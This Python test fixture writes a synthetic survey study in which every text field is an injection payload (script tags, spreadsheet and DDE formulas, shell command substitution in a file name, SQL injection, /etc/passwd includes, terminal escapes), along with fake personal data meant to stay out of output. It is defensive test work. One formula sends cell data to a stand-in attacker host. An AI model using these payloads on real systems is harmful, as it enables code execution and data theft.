"""A study whose every text is an attack, and whose files hold secrets that no output may tell."""

import json
from pathlib import Path

import numpy as np
import pandas as pd

N = 240
RUN = "<script>window.ran=1</script><img src=x onerror=window.ran=1>"
NAMES = [
    f"First bill {RUN}",
    '=HYPERLINK("http://evil.example/?"&A1) #eval(read("/etc/passwd")) $(touch ran) `touch ran`'
    ' `#eval("1")`{=typst} <?lua os.execute("touch ran") ?>',
    "Outage **bold** [x](javascript:window.ran=1) {{< include /etc/passwd >}} ';DROP TABLE w;--",
]
OWNERS = [
    "+cmd|' /C calc'!A0",
    "@SUM(1)<b>IT</b>",
    "ليد\u200f\u202e Zoë 👩\u200d🚀 &amp; \\input{x}",
]
PLANS = ["<u>con</u>tract", "-2+3 pre*paid*"]
LONG = "w" * 10_000
IDEAL = "=1+1 is done, #let x = 1 and $E=mc^2$ too"
QUOTES = [
    f"The bill is wrong {RUN}",
    f"{IDEAL} \x1b[31mred\x1b]0;title\x07",
    f"Nobody answered {LONG}",
]
# What may stand in no output: ids, and personal data inside comments and other columns.
SECRET_ID = "SECRETID"
SECRETS = ["jane.doe@secret.example", "+49 170 9876543", "DE89 3704 0044 0532 0130 00"]
NAME_OF_ONE = "Wilhelmina-Xaveria"


def write_hostile_study(folder: Path) -> Path:
    """Write the study and all of its files; return its folder."""
    folder.mkdir(parents=True, exist_ok=True)
    ids = [f"{SECRET_ID}{row}" for row in range(N)]
    moments = [
        {"id": f"m{place}", "name": name, "owner": owner, "rating": f"q{place} {RUN}"[:60],
         "description": name, "expectation": owner, "ideal": IDEAL, "partners": [owner]}
        for place, (name, owner) in enumerate(zip(NAMES, OWNERS, strict=True))
    ]  # fmt: skip
    moments[1]["brand_bet"] = f"Who we are {RUN}"
    moments[1]["metrics"] = ["=1+1 <b>m</b>"]
    study = {
        "study": {"name": f"=Har*bour* {RUN}", "population": 1000, "currency": "EUR"},
        "moments": moments,
        "ratings": {"low": 1, "high": 5, "not_experienced": [6], "target": 4},
        "outcomes": [
            {"id": "recommend", "column": "=ltr", "kind": "score", "low": 0, "high": 10},
            {"id": "renewed", "role": "revenue", "column": "ren<b>ewed", "kind": "binary",
             "yes": ["<i>yes"], "no": ["-no"]},
        ],
        "respondent": "person",
        "segments": ["=plan"],
        "waves": [
            {"id": f"2026Q{number}", "file": f"wave {number} <b>$(touch ran).csv",
             "from": f"2026-0{number}-01", "to": f"2026-0{number}-20"}
            for number in (1, 2)
        ],
        "customers": {"file": "customers.csv"},
        "workshop": {"votes": "votes.csv"},
        "voice": {"file": "voice.csv", "codes": "codes.csv", "quotes": True},
        "operations": {"file": "operations.csv"},
        "rules": {"n_resamples": 60, "min_n": 30},
    }  # fmt: skip
    (folder / "study.yml").write_text(json.dumps(study, ensure_ascii=False), encoding="utf-8")
    for number in (1, 2):
        _wave(number, ids, moments).to_csv(folder / study["waves"][number - 1]["file"], index=False)
    pd.DataFrame(
        {
            "person": ids,
            "name": [f"{NAME_OF_ONE}{row}" for row in range(N)],
            "mail": SECRETS[0],
            "phone": SECRETS[1],
        }
    ).to_csv(folder / "customers.csv", index=False)
    texts = [
        f"{QUOTES[row % 3]} {row} I am {NAME_OF_ONE}{row}, {SECRETS[row % 3]}, number {ids[row]}"
        for row in range(90)
    ]
    pd.DataFrame(
        {"respondent": ids[:90], "wave": "2026Q2", "text": texts,
         "codes": [str(row % 3) for row in range(90)], "source": "survey"}
    ).to_csv(folder / "voice.csv", index=False)  # fmt: skip
    pd.DataFrame(
        {"wave": "", "code": ["0", "1", "2"], "label": NAMES, "moment": ["m0", "m1", "m2"],
         "valence": [-1, 0, 1]}
    ).to_csv(folder / "codes.csv", index=False)  # fmt: skip
    pd.DataFrame(
        {"participant": [f"P{at}" for at in range(9)], "silo": [*OWNERS] * 3,
         "moment": ["m0"] * 3 + ["m1"] * 3 + ["m2"] * 3, "shortlisted": [1, 1, 0] * 3}
    ).to_csv(folder / "votes.csv", index=False)  # fmt: skip
    pd.DataFrame(
        {"metric": ["=1+1 <b>m</b>"] * 2, "date": ["2026-01-15", "2026-02-15"], "value": [3, 4]}
    ).to_csv(folder / "operations.csv", index=False)
    return folder


def _wave(number: int, ids: list[str], moments: list[dict]) -> pd.DataFrame:
    rng = np.random.default_rng(number)
    mood = rng.normal(size=N)
    ratings = {
        moment["rating"]: np.clip(np.round(3.3 + mood + rng.normal(size=N)), 1, 5).astype(int)
        for moment in moments
    }
    outcome = np.clip(np.round(6 + 2 * mood + rng.normal(size=N)), 0, 10).astype(int)
    return pd.DataFrame(
        {
            "person": ids,
            "e-mail": SECRETS[0],
            **ratings,
            "=ltr": outcome,
            "ren<b>ewed": np.where(mood + rng.normal(size=N) > 0, "<i>yes", "-no"),
            "=plan": np.where(rng.random(N) < 0.5, *PLANS),
        }
    )
